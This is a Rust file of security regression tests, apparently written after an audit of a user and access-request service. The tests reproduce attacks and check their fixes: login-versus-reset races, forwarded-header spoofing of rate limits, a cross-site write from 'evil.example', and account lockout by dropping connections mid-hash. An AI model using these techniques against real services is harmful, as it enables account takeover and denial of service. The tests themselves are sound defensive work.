    app.login_full("\u{212A}ay@kit.example", PASSWORD).await.expect(401);
    app.login("kay", PASSWORD).await;
}

/// Finding 8: a login that checked the old password while a reset was
/// being written gets no session. On `facfb9a` a login sent 40-60 ms after
/// the change, with the old password, succeeded in 7 of 9 tries and its
/// session kept working after the change.
#[tokio::test]
async fn a_login_racing_a_password_reset_gets_no_session() {
    // A slow hash (about 100 ms here) widens the window the race needs.
    let app = spawn_app_with(|s| {
        s.password.memory_kib = 65_536;
        s.password.iterations = 3;
    })
    .await;
    app.create_user("racer", json!({})).await;
    let started = std::time::Instant::now();
    app.login("racer", PASSWORD).await;
    let hash = started.elapsed();
    let mut old = PASSWORD.to_string();
    let mut raced = 0;
    let mut survived = Vec::new();
    for i in 0..6 {
        let new = format!("a fresh and long passphrase, number {i}");
        let reset = app.put("/api/v1/users/racer/password", &app.admin_token, json!({"new_password": new}));
        let login = async {
            tokio::time::sleep(hash / 2).await;
            app.login_full("racer", &old).await
        };
        let (r, l) = tokio::join!(reset, login);
        r.expect(204);
        if l.status == 200 {
            raced += 1;
            let t = l.json()["access_token"].as_str().expect("token").to_string();
            let me = app.get("/api/v1/users/me", &t).await;
            if me.status == 200 {
                survived.push(i);
            }
        }
        old = new;
    }
    println!("login race: hash {hash:?}, {raced} of 6 logins with the old password answered 200");
    assert!(survived.is_empty(), "sessions from the old password outlived the reset in tries {survived:?}");
}

/// Finding 8: an invitation grants what its inviter can grant when it is
/// accepted; it can be withdrawn and it expires. On `facfb9a` an owner
/// invitation outlived its inviter's ownership and nobody could withdraw it.
#[tokio::test]
async fn invitations_do_not_outlive_their_inviter() {
    let app = spawn_app().await;
    let first = app.user("first").await;
    let second = app.user("second").await;
    let guest = app.user("guest").await;
    app.create_user("other", json!({})).await;
    app.post("/api/v1/projects", &first, json!({"id": "INV", "name": "Inv"})).await.expect(201);
    app.put("/api/v1/projects/INV/members/second", &first, json!({"level": "owner"})).await.expect(200);
    let par = app
        .post("/api/v1/projects/INV/access-requests", &second, json!({"username": "guest", "level": "owner"}))
        .await
        .expect(201)
        .json()["par_id"]
        .as_i64()
        .expect("par_id");
    // The inviter stops being an owner; the invitation can no longer grant ownership.
    app.put("/api/v1/projects/INV/members/second", &first, json!({"level": "member"})).await.expect(200);
    let r = app.put(&format!("/api/v1/access-requests/{par}"), &guest, json!({"action": "accept"})).await;
    assert_eq!(r.status, 409, "a stale invitation made the guest owner: {}", r.text);
    assert_eq!(r.code(), "invitation_void");
    assert_eq!(level_of(&app, "guest", "INV").await, None);
    // An owner (or the inviter) withdraws it; a stranger cannot even see it.
    let other = app.login("other", PASSWORD).await;
    app.delete(&format!("/api/v1/access-requests/{par}"), &other).await.expect(404);
    let w = app.delete(&format!("/api/v1/access-requests/{par}"), &first).await.expect(200);
    assert_eq!(w.json()["status"], "withdrawn");
    app.put(&format!("/api/v1/access-requests/{par}"), &guest, json!({"action": "accept"})).await.expect(409);
    // Invitations expire.
    let par2 = app
        .post("/api/v1/projects/INV/access-requests", &first, json!({"username": "guest", "level": "member"}))
        .await
        .expect(201)
        .json();
    assert!(par2["expires_at"].is_string());
    let par2 = par2["par_id"].as_i64().expect("par_id");
    sqlx::query("UPDATE access_requests SET expires_at = now() - interval '1 second' WHERE par_id = $1")
        .bind(par2)
        .execute(&app.pool)
        .await
        .expect("expire");
    let r = app.put(&format!("/api/v1/access-requests/{par2}"), &guest, json!({"action": "accept"})).await.expect(409);
    assert_eq!(r.code(), "invitation_expired");
    assert_eq!(app.get("/api/v1/access-requests", &guest).await.expect(200).json()["items"], json!([]));
    // A new invitation to the same person replaces the lapsed one.
    app.post("/api/v1/projects/INV/access-requests", &first, json!({"username": "guest", "level": "member"}))
        .await
        .expect(201);
    // Only accept and decline answer.
    let r = app.put(&format!("/api/v1/access-requests/{par2}"), &guest, json!({"action": "approve"})).await;
    assert_eq!(r.status, 422);
}

/// Finding 8: asking to join a private project reveals nothing about it,
/// and nobody asks to be made owner. On `facfb9a` a non-member refused
/// `GET /api/v1/projects/PA` read its description and PI in the 201 answer.
#[tokio::test]
async fn a_join_request_discloses_nothing() {
    let app = spawn_app().await;
    let owner = app.user("owner").await;
    let outsider = app.user("outsider").await;
    let body = json!({"id": "PA", "name": "Private", "description": "secret cohort", "pi": "Dr Who"});
    app.post("/api/v1/projects", &owner, body).await.expect(201);
    app.get("/api/v1/projects/PA", &outsider).await.expect(403);
    let r = app.post("/api/v1/projects/PA/access-requests", &outsider, json!({"level": "member"})).await.expect(201);
    assert!(!r.text.contains("secret cohort") && !r.text.contains("Dr Who"), "{}", r.text);
    let r =
        app.post("/api/v1/projects/PA/access-requests", &app.user("climber").await, json!({"level": "owner"})).await;
    assert_eq!(r.status, 422, "a join request asked for owner: {}", r.text);
}

/// Finding 8: usernames that XNAT routes could read two ways are refused
/// (route words, all digits), and a username wins over an XNAT numeric id.
/// On `facfb9a` a user named `4` was shadowed by the user whose XNAT id is 4,
/// and a user named `active` turned `DELETE /xapi/users/active/roles` into
/// "end the sessions of `roles`".
#[tokio::test]
async fn route_words_and_numbers_are_not_usernames() {
    let app = spawn_app().await;
    for name in ["active", "current", "profiles", "profile", "4", "007"] {
        let body = json!({"username": name, "email": format!("u{name}@example.org"), "password": PASSWORD});
        let r = app.post("/api/v1/users", &app.admin_token, body).await;
        assert_eq!((r.status.as_u16(), r.code()), (400, "reserved_username".to_string()), "username {name}");
    }
    // An older account (made before the rule) whose name is another
    // account's XNAT id is found by its name.
    app.create_user("shadow", json!({})).await;
    app.create_user("numbered", json!({})).await;
    let id: i32 = sqlx::query_scalar("SELECT xdat_user_id FROM users WHERE username = 'numbered'")
        .fetch_one(&app.pool)
        .await
        .expect("id");
    sqlx::query("UPDATE users SET username = $1 WHERE username = 'shadow'")
        .bind(id.to_string())
        .execute(&app.pool)
        .await
        .expect("legacy name");
    app.post("/api/v1/projects", &app.admin_token, json!({"id": "NUM", "name": "Num"})).await.expect(201);
    app.put(&format!("/data/projects/NUM/users/member/{id}"), &app.admin_token, json!(null)).await.expect(200);
    assert_eq!(level_of(&app, "numbered", "NUM").await, None, "the XNAT id shadowed the username");
    assert_eq!(level_of(&app, &id.to_string(), "NUM").await.as_deref(), Some("member"));
}

/// Finding 8: a request that is refused changes nothing. On `facfb9a`
/// `PUT /data/pars/1?accept&format=bogus` answered 400 after accepting, and a
/// UserManager's `PUT /xapi/users/alice {"password", "admin": true}`
/// answered 403 after resetting the password.
#[tokio::test]
async fn a_refused_request_wrote_nothing() {
    let app = spawn_app().await;
    let owner = app.user("owner").await;
    let alice = app.user("alice").await;
    app.post("/api/v1/projects", &owner, json!({"id": "FMT", "name": "Fmt"})).await.expect(201);
    let par = app
        .post("/api/v1/projects/FMT/access-requests", &owner, json!({"username": "alice", "level": "member"}))
        .await
        .expect(201)
        .json()["par_id"]
        .as_i64()
        .expect("par");
    app.put(&format!("/data/pars/{par}?accept&format=bogus"), &alice, json!(null)).await.expect(400);
    assert_eq!(level_of(&app, "alice", "FMT").await, None, "the refused request accepted the invitation");
    app.create_user("manager", json!({"roles": ["UserManager"]})).await;
    let manager = app.login("manager", PASSWORD).await;
    let body = json!({"password": "a brand new long passphrase 9", "admin": true});
    app.put("/xapi/users/alice", &manager, body).await.expect(403);
    app.login("alice", PASSWORD).await;
    assert_eq!(app.count("SELECT count(*) FROM change_log WHERE action = 'password.reset'").await, 0);
    // And a manager's reset with a profile change is one commit.
    let body = json!({"password": "a brand new long passphrase 9", "firstName": "Al"});
    app.put("/xapi/users/alice", &manager, body).await.expect(200);
    app.login("alice", "a brand new long passphrase 9").await;
    let _ = alice;
}

/// Finding 8: the change log keys entries by the server's request id; a
/// client's `X-Request-Id` cannot claim another request's entries.
#[tokio::test]
async fn client_request_ids_never_key_the_log() {
    let app = spawn_app().await;
    let r = app
        .client
        .post(app.url("/api/v1/groups"))
        .bearer_auth(&app.admin_token)
        .header("X-Request-Id", "reused-id")
        .json(&json!({"name": "logged"}))
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 201);
    let server_id = r.headers()["x-request-id"].to_str().expect("ascii").to_string();
    assert_ne!(server_id, "reused-id");
    assert_eq!(app.count("SELECT count(*) FROM change_log WHERE request_id = 'reused-id'").await, 0);
    let logged: i64 = sqlx::query_scalar("SELECT count(*) FROM change_log WHERE request_id = $1")
        .bind(&server_id)
        .fetch_one(&app.pool)
        .await
        .expect("q");
    assert_eq!(logged, 1);
}

/// Finding 8: a plain group cannot take a project's level-group name (on
/// `facfb9a` a group `PZ_owner` blocked creating project `PZ`).
#[tokio::test]
async fn plain_groups_cannot_squat_project_groups() {
    let app = spawn_app().await;
    let r = app.post("/api/v1/groups", &app.admin_token, json!({"name": "PZ_owner"})).await;
    assert_eq!(r.status, 422, "{}", r.text);
    assert_eq!(r.code(), "reserved_group_name");
    app.post("/api/v1/projects", &app.admin_token, json!({"id": "PZ", "name": "PZ"})).await.expect(201);
}

async fn login_from(app: &TestApp, forwarded: &str) -> Resp {
    let rb = app
        .client
        .post(app.url("/api/v1/auth/login"))
        .header("X-Forwarded-For", forwarded)
        .json(&json!({"username": "someone", "password": "a wrong but long passphrase"}));
    app.exchange("POST /api/v1/auth/login", rb).await
}

/// Finding 8: behind a trusted reverse proxy the rate limits count the real
/// client (`trusted_proxies`), so one client cannot spend the whole site's
/// login budget; from anyone else `X-Forwarded-For` is ignored. On
/// `facfb9a` every client behind the proxy shared one budget.
#[tokio::test]
async fn rate_limits_see_the_client_behind_a_trusted_proxy() {
    let app = spawn_app_with(|s| {
        s.rate_limits.login_per_ip = 3;
        s.trusted_proxies = vec!["127.0.0.1".into()];
    })
    .await; // the admin's login (no X-Forwarded-For) counted for 127.0.0.1
    for _ in 0..3 {
        login_from(&app, "198.51.100.7").await.expect(401);
    }
    assert_eq!(login_from(&app, "198.51.100.7").await.status, 429);
    // Another client behind the same proxy still has its budget; a client
    // cannot escape by prepending an address of its choice.
    login_from(&app, "198.51.100.8").await.expect(401);
    assert_eq!(login_from(&app, "10.9.9.9, 198.51.100.7").await.status, 429);
    // Without trusted proxies the header is ignored: one budget for the peer.
    let plain = spawn_app_with(|s| s.rate_limits.login_per_ip = 3).await;
    for n in 0..2 {
        login_from(&plain, &format!("198.51.100.{n}")).await.expect(401);
    }
    assert_eq!(login_from(&plain, "198.51.100.99").await.status, 429);
}

fn cookie_named(r: &Resp, name: &str) -> Option<String> {
    r.headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|c| c.strip_prefix(&format!("{name}=")).map(|rest| rest.split(';').next().unwrap_or("").to_string()))
}

/// Finding 9: an explicit `Authorization` header wins over a session cookie
/// (on `facfb9a` the cookie's user was served). Basic naming the cookie's
/// own user still rides on the session (pyxnat sends both).
#[tokio::test]
async fn an_explicit_authorization_header_wins_over_a_cookie() {
    let app = spawn_app().await;
    app.create_user("alice", json!({})).await;
    let bob = app.user("bob").await;
    let login = app.login_full("alice", PASSWORD).await.expect(200);
    let cookie = cookie_named(&login, "registrar_session").expect("cookie");
    let me = |auth: String| {
        app.client
            .get(app.url("/api/v1/users/me"))
            .header("Cookie", format!("registrar_session={cookie}"))
            .header("Authorization", auth)
    };
    let r = me(format!("Bearer {bob}")).send().await.expect("send");
    let body: Value = r.json().await.expect("json");
    assert_eq!(body["username"], "bob", "the cookie's user was served instead of the bearer's");
    use base64::Engine;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("bob:{PASSWORD}"));
    let body: Value = me(format!("Basic {basic}")).send().await.expect("send").json().await.expect("json");
    assert_eq!(body["username"], "bob");
    let wrong = base64::engine::general_purpose::STANDARD.encode("bob:not the password at all");
    assert_eq!(me(format!("Basic {wrong}")).send().await.expect("send").status(), 401);
}

/// Finding 9: with `auth.cookie_secure` the session cookie is `__Host-`
/// prefixed (Secure, Path=/, no Domain), and it works.
#[tokio::test]
async fn secure_cookies_use_the_host_prefix() {
    let app = spawn_app_with(|s| s.auth.cookie_secure = true).await;
    app.create_user("alice", json!({})).await;
    let login = app.login_full("alice", PASSWORD).await.expect(200);
    let raw = login
        .headers
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|c| c.starts_with("__Host-registrar_session="))
        .expect("a __Host- session cookie")
        .to_string();
    assert!(raw.contains("Secure") && raw.contains("Path=/") && !raw.contains("Domain"), "{raw}");
    let value = cookie_named(&login, "__Host-registrar_session").expect("value");
    let rb = app.client.get(app.url("/api/v1/users/me")).header("Cookie", format!("__Host-registrar_session={value}"));
    app.exchange("GET /api/v1/users/me", rb).await.expect(200);
}

/// Finding 9: a session unused for `auth.session_idle_secs` ends, and so do
/// its refresh tokens.
#[tokio::test]
async fn idle_sessions_end() {
    // "Last seen" is quiet bookkeeping the auth cache does not hear of, and
    // this test moves it behind the server's back: read it from the database.
    let app = spawn_app_with(|s| {
        s.auth.session_idle_secs = 600;
        s.auth.cache = false;
    })
    .await;
    app.create_user("idler", json!({})).await;
    let login = app.login_full("idler", PASSWORD).await.expect(200).json();
    let token = login["access_token"].as_str().expect("token").to_string();
    let refresh = login["refresh_token"].as_str().expect("refresh").to_string();
    app.get("/api/v1/users/me", &token).await.expect(200);
    sqlx::query("UPDATE sessions SET last_seen_at = now() - interval '11 minutes'")
        .execute(&app.pool)
        .await
        .expect("q");
    app.settle_auth_cache().await;
    app.get("/api/v1/users/me", &token).await.expect(401);
    app.send(Method::POST, "/api/v1/auth/refresh", &Auth::None, Some(json!({"refresh_token": refresh})))
        .await
        .expect(401);
}

/// Finding 9: starting an OpenID login writes a state row, so it is rate
/// limited per client like the callback.
#[tokio::test]
async fn oidc_login_starts_are_rate_limited() {
    let app = spawn_app_with(|s| {
        s.rate_limits.oidc_callback_per_ip = 2;
        s.oidc.providers = vec![registrar::config::OidcProvider {
            name: "down".into(),
            display_name: String::new(),
            issuer: "http://127.0.0.1:9".into(),
            client_id: "registrar".into(),
            client_secret: "x".to_string().into(),
            client_secret_env: String::new(),
            scopes: vec!["openid".into()],
            auto_create: true,
            link_by_email: false,
        }];
    })
    .await;
    let mut statuses = Vec::new();
    for _ in 0..3 {
        statuses.push(app.send(Method::GET, "/api/v1/auth/oidc/down/login", &Auth::None, None).await.status.as_u16());
    }
    assert_eq!(statuses[2], 429, "{statuses:?}");
    assert!(statuses[..2].iter().all(|s| *s != 429), "{statuses:?}");
}

/// Helper review of finding 7: access requests are no back door to the
/// membership rule. A UserManager approving their own join request, or
/// anyone inviting themselves, is refused.
#[tokio::test]
async fn nobody_grants_themselves_access_through_a_request() {
    let app = spawn_app().await;
    let owner = app.user("owner").await;
    app.create_user("manager", json!({"roles": ["UserManager"]})).await;
    let manager = app.login("manager", PASSWORD).await;
    app.post("/api/v1/projects", &owner, json!({"id": "PA", "name": "PA"})).await.expect(201);
    let par = app.post("/api/v1/projects/PA/access-requests", &manager, json!({"level": "member"})).await.expect(201);
    let id = par.json()["par_id"].as_i64().expect("id");
    let r = app.put(&format!("/api/v1/access-requests/{id}"), &manager, json!({"action": "accept"})).await;
    assert_eq!(r.status, 403, "a UserManager approved their own request: {}", r.text);
    let r = app
        .post("/api/v1/projects/PA/access-requests", &manager, json!({"username": "manager", "level": "owner"}))
        .await;
    assert_eq!(r.status, 403, "a UserManager invited themselves: {}", r.text);
    assert_eq!(level_of(&app, "manager", "PA").await, None);
    // The owner may still accept the request.
    app.put(&format!("/api/v1/access-requests/{id}"), &owner, json!({"action": "accept"})).await.expect(200);
    assert_eq!(level_of(&app, "manager", "PA").await.as_deref(), Some("member"));
}

/// Helper review of finding 7: deleting two co-owners at the same moment
/// leaves the project one of them (the check locks the project).
#[tokio::test]
async fn co_owners_deleted_at_once_leave_an_owner() {
    let app = spawn_app().await;
    for round in 0..5 {
        let (a, b) = (format!("a{round}"), format!("b{round}"));
        let ta = app.user(&a).await;
        app.create_user(&b, json!({})).await;
        let project = format!("PR{round}");
        app.post("/api/v1/projects", &ta, json!({"id": project, "name": "x"})).await.expect(201);
        app.put(&format!("/api/v1/projects/{project}/members/{b}"), &ta, json!({"level": "owner"})).await.expect(200);
        let (pa, pb) = (format!("/api/v1/users/{a}"), format!("/api/v1/users/{b}"));
        let (ra, rb) = tokio::join!(app.delete(&pa, &app.admin_token), app.delete(&pb, &app.admin_token));
        let mut statuses = [ra.status.as_u16(), rb.status.as_u16()];
        statuses.sort();
        assert_eq!(statuses, [200, 409], "round {round}");
        let owners = app.count(&format!("SELECT count(*) FROM user_groups WHERE group_name = '{project}_owner'")).await;
        assert_eq!(owners, 1, "round {round}");
    }
}

/// Helper review of finding 2: a UserManager cannot change an
/// administrator's project memberships either; an owner of the project can.
#[tokio::test]
async fn a_user_manager_cannot_move_an_administrator_between_projects() {
    let app = spawn_app().await;
    let owner = app.user("owner").await;
    app.create_user("manager", json!({"roles": ["UserManager"]})).await;
    let manager = app.login("manager", PASSWORD).await;
    app.create_user("admin2", json!({"admin": true})).await;
    app.post("/api/v1/projects", &owner, json!({"id": "PA", "name": "PA"})).await.expect(201);
    let body = json!({"level": "collaborator"});
    app.put("/api/v1/projects/PA/members/admin2", &manager, body.clone()).await.expect(403);
    app.put("/data/projects/PA/users/owner/admin2", &manager, json!(null)).await.expect(403);
    assert_eq!(level_of(&app, "admin2", "PA").await, None);
    app.put("/api/v1/projects/PA/members/admin2", &owner, body).await.expect(200);
    app.delete("/data/projects/PA/users/collaborator/admin2", &manager).await.expect(403);
    assert_eq!(level_of(&app, "admin2", "PA").await.as_deref(), Some("collaborator"));
}

/// Helper review of finding 7 (directory): member lists and access
/// requests shown to an owner carry no email of other accounts.
#[tokio::test]
async fn owners_do_not_read_emails_through_memberships() {
    let app = spawn_app().await;
    let alice = app.user("alice").await;
    app.create_user("kate", json!({})).await;
    app.create_user("admin2", json!({"admin": true})).await;
    app.post("/api/v1/projects", &alice, json!({"id": "PC", "name": "PC"})).await.expect(201);
    let r = app.put("/api/v1/projects/PC/members/kate", &alice, json!({"level": "collaborator"})).await.expect(200);
    assert!(!r.text.contains("kate@example.org"), "{}", r.text);
    let r = app
        .post("/api/v1/projects/PC/access-requests", &alice, json!({"username": "admin2", "level": "collaborator"}))
        .await
        .expect(201);
    assert!(!r.text.contains("admin2@example.org"), "{}", r.text);
    let csv_text = app.get("/api/v1/projects/PC/access-requests?format=csv", &alice).await.expect(200).text;
    assert!(!csv_text.contains("admin2@example.org"), "{csv_text}");
    // An address the owner typed is theirs to see.
    app.post("/api/v1/projects/PC/access-requests", &alice, json!({"email": "new@example.org", "level": "member"}))
        .await
        .expect(201);
    let csv_text = app.get("/data/projects/PC/pars?format=csv", &alice).await.expect(200).text;
    assert!(csv_text.contains("new@example.org") && !csv_text.contains("admin2@example.org"), "{csv_text}");
}

/// Helper review of finding 6: `current_password` guesses count toward the
/// lockout like logins, so a stolen key cannot guess the password without
/// limit.
#[tokio::test]
async fn current_password_guesses_count_toward_the_lockout() {
    let app = spawn_app().await;
    let token = app.user("carol").await;
    let key = app.post("/api/v1/users/me/api-keys", &token, json!({"name": "k"})).await.expect(201).json()["key"]
        .as_str()
        .expect("key")
        .to_string();
    let mut statuses = Vec::new();
    for i in 0..7 {
        let r = if i % 2 == 0 {
            let body = json!({"name": "x", "current_password": "guess number one two three"});
            app.post("/api/v1/users/me/api-keys", &key, body).await
        } else {
            let body = json!({"current_password": "guess number one two three", "new_password": "a new and long passphrase 7"});
            app.put("/api/v1/users/me/password", &key, body).await
        };
        statuses.push(r.status.as_u16());
    }
    assert_eq!(statuses, [403, 403, 403, 403, 403, 429, 429], "guesses through current_password");
    // The right password now waits too; the key itself still works.
    let body = json!({"name": "x", "current_password": PASSWORD});
    app.post("/api/v1/users/me/api-keys", &key, body).await.expect(429);
    app.get("/api/v1/users/me", &key).await.expect(200);
}

/// Finding 9: the API viewer loads nothing from another origin (on
/// `facfb9a` an unpinned script from a CDN ran on the origin of the session
/// cookie) and its page sends a Content-Security-Policy that allows only
/// this origin's scripts.
#[tokio::test]
async fn the_api_viewer_loads_only_its_own_code() {
    let app = spawn_app().await;
    let page = app.send(Method::GET, "/api/v1/docs", &Auth::None, None).await.expect(200);
    let csp = page.headers.get("content-security-policy").and_then(|v| v.to_str().ok()).unwrap_or_default();
    assert!(csp.contains("script-src 'self'") && csp.contains("default-src 'none'"), "CSP: {csp:?}");
    assert!(!page.text.contains("http://") && !page.text.contains("https://"), "{}", page.text);
    let mut loaded = 0;
    for part in page.text.split(['"', '\'']) {
        if part.starts_with("docs/") {
            let r = app.send(Method::GET, &format!("/api/v1/{part}"), &Auth::None, None).await.expect(200);
            assert!(r.text.len() > 20, "{part}");
            loaded += 1;
        }
    }
    assert_eq!(loaded, 3, "stylesheet, bundle and start-up script");
    app.send(Method::GET, "/api/v1/docs/other.js", &Auth::None, None).await.expect(404);
}

/// Finding 10: the login rate limits hold on every way in: XNAT's form
/// login, HTTP Basic on XNAT paths, and the OpenID callback.
#[tokio::test]
async fn every_login_path_is_rate_limited() {
    let app = spawn_app_with(|s| {
        s.rate_limits.login_per_account = 3;
        s.rate_limits.oidc_callback_per_ip = 2;
        s.oidc.providers = vec![registrar::config::OidcProvider {
            name: "down".into(),
            display_name: String::new(),
            issuer: "http://127.0.0.1:9".into(),
            client_id: "registrar".into(),
            client_secret: "x".to_string().into(),
            client_secret_env: String::new(),
            scopes: vec!["openid".into()],
            auto_create: true,
            link_by_email: false,
        }];
    })
    .await;
    app.create_user("form", json!({})).await;
    app.create_user("basic", json!({})).await;
    let form = |pw: &'static str| {
        app.client.put(app.url("/data/services/auth")).form(&[("username", "form"), ("password", pw)]).send()
    };
    let mut statuses = Vec::new();
    for _ in 0..3 {
        statuses.push(form("a wrong but long passphrase").await.expect("send").status().as_u16());
    }
    let limited = form(PASSWORD).await.expect("send");
    statuses.push(limited.status().as_u16());
    assert_eq!(statuses, [401, 401, 401, 429], "XNAT form login");
    let basic = |pw: &str| Auth::Basic("basic".into(), pw.into());
    let mut statuses = Vec::new();
    for _ in 0..3 {
        statuses.push(
            app.send(Method::GET, "/data/auth", &basic("a wrong but long passphrase"), None).await.status.as_u16(),
        );
    }
    statuses.push(app.send(Method::GET, "/data/auth", &basic(PASSWORD), None).await.status.as_u16());
    assert_eq!(statuses, [401, 401, 401, 429], "HTTP Basic");
    // Refused before any check: no failure counted, nothing logged.
    let failures = app.count("SELECT count(*) FROM change_log WHERE action = 'login.failed'").await;
    assert_eq!(failures, 6, "only the six checked attempts are logged");
    let mut statuses = Vec::new();
    for _ in 0..3 {
        let r = app.send(Method::GET, "/api/v1/auth/oidc/down/callback?code=c&state=s", &Auth::None, None).await;
        statuses.push(r.status.as_u16());
    }
    assert_eq!(statuses[2], 429, "OpenID callback: {statuses:?}");
}

/// Second attack review: parallel logins with the right password are never
/// told the account is locked (each attempt reserves a try before its hash
/// is checked; the ones beyond the limit wait with `login_in_progress`).
#[tokio::test]
async fn parallel_right_passwords_are_not_a_lockout() {
    let app = spawn_app().await;
    app.create_user("conc", json!({})).await;
    let results = futures_util::future::join_all((0..10).map(|_| app.login_full("conc", PASSWORD))).await;
    for r in &results {
        assert!(r.status == 200 || r.code() == "login_in_progress", "{} {}", r.status, r.text);
    }
    app.login("conc", PASSWORD).await;
}

/// Second attack review: Basic credentials a browser cached are ambient
/// like a cookie, so a cross-site write with them is refused too.
#[tokio::test]
async fn cross_site_writes_with_basic_credentials_are_refused() {
    let app = spawn_app().await;
    app.create_user("cs", json!({})).await;
    let rb = app
        .client
        .put(app.url("/xapi/users/cs"))
        .basic_auth("cs", Some(PASSWORD))
        .header("Origin", "https://evil.example")
        .header("Sec-Fetch-Site", "cross-site")
        .json(&json!({"firstName": "Pwned"}));
    let r = app.exchange("PUT /xapi/users/cs", rb).await.expect(403);
    assert_eq!(r.code(), "cross_site_request");
    // XNAT clients send neither header and are served.
    let rb =
        app.client.put(app.url("/xapi/users/cs")).basic_auth("cs", Some(PASSWORD)).json(&json!({"firstName": "Ok"}));
    app.exchange("PUT /xapi/users/cs", rb).await.expect(200);
}

/// Third attack review: a login the client abandons mid-hash (it hangs up)
/// reserved a try that nothing gave back, and five of them refused every
/// later password login of the account (429 `login_in_progress`), for ever
/// and without a log entry: anyone could do it to any account, `admin`
/// included. Now a reservation is not a failure and lapses on its own.
#[tokio::test]
async fn abandoned_logins_neither_count_nor_lock() {
    let app = spawn_app_with(|s| {
        // A hash slow enough (~100 ms) to hang up in the middle of
        // reliably, even on a loaded machine.
        s.password.memory_kib = 19456;
        s.password.iterations = 6;
        s.auth.login_reservation_secs = 2;
    })
    .await;
    app.create_user("victim", json!({})).await;
    let host = app.address.trim_start_matches("http://").to_string();
    let body = r#"{"username":"victim","password":"a wrong guess that is long enough"}"#;
    let request = format!(
        "POST /api/v1/auth/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    for _ in 0..6 {
        let mut s = tokio::net::TcpStream::connect(&host).await.expect("connect");
        s.write_all(request.as_bytes()).await.expect("send");
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        s.set_zero_linger().expect("linger");
        drop(s); // reset: the server drops the request mid-check
    }
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    // On a loaded machine a check may still reach its verdict before the
    // server sees the reset; such a failure is real, counted and logged.
    // An abandoned one is neither.
    let failed = app.count("SELECT failed_login_attempts::bigint FROM users WHERE username = 'victim'").await;
    let logged = app
        .count(
            "SELECT count(*) FROM change_log c JOIN users u ON c.subject_id = u.id::text
             WHERE u.username = 'victim' AND c.action = 'login.failed'",
        )
        .await;
    assert_eq!(failed, logged, "only verdicts count, and each is logged");
    assert!(failed < 5, "at least one check was abandoned mid-hash (the case under test): {failed}");
    // Once the reservations lapse, the holder logs in.
    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
    app.login("victim", PASSWORD).await;
    // Real failures still lock as before.
    for _ in 0..5 {
        app.login_full("victim", "another wrong guess, long enough").await.expect(401);
    }
    assert_eq!(app.login_full("victim", PASSWORD).await.expect(429).code(), "account_locked");
}

/// Third attack review: logins whose check passed while "log out
/// everywhere" changed the account's "not before" go stale (401); their
/// tries used to stay reserved, so five such logins refused every later
/// one. A stale login now gives its try back and is logged.
#[tokio::test]
async fn stale_logins_give_their_try_back() {
    let app = spawn_app_with(|s| {
        s.password.memory_kib = 19456;
        s.password.iterations = 2;
    })
    .await;
    app.create_user("racer", json!({})).await;
    let mut stale = 0;
    for _ in 0..3 {
        let logins = futures_util::future::join_all((0..5).map(|_| app.login_full("racer", PASSWORD)));
        let revoke = async {
            tokio::time::sleep(std::time::Duration::from_millis(30)).await;
            app.delete("/api/v1/users/racer/sessions", &app.admin_token).await.expect(200);
        };
        let (results, ()) = tokio::join!(logins, revoke);
        for r in &results {
            assert!(matches!(r.status.as_u16(), 200 | 401 | 429), "{} {}", r.status, r.text);
            stale += usize::from(r.status == 401);
        }
        // Whatever raced, the right password works at once afterwards.
        app.login("racer", PASSWORD).await;
    }
    assert_eq!(app.count("SELECT failed_login_attempts::bigint FROM users WHERE username = 'racer'").await, 0);
    let abandoned = app
        .count(
            "SELECT count(*) FROM change_log WHERE action = 'login.abandoned'
               AND changes->>'reason' = 'credentials_changed'",
        )
        .await;
    assert_eq!(abandoned as usize, stale, "every stale login is logged");
}
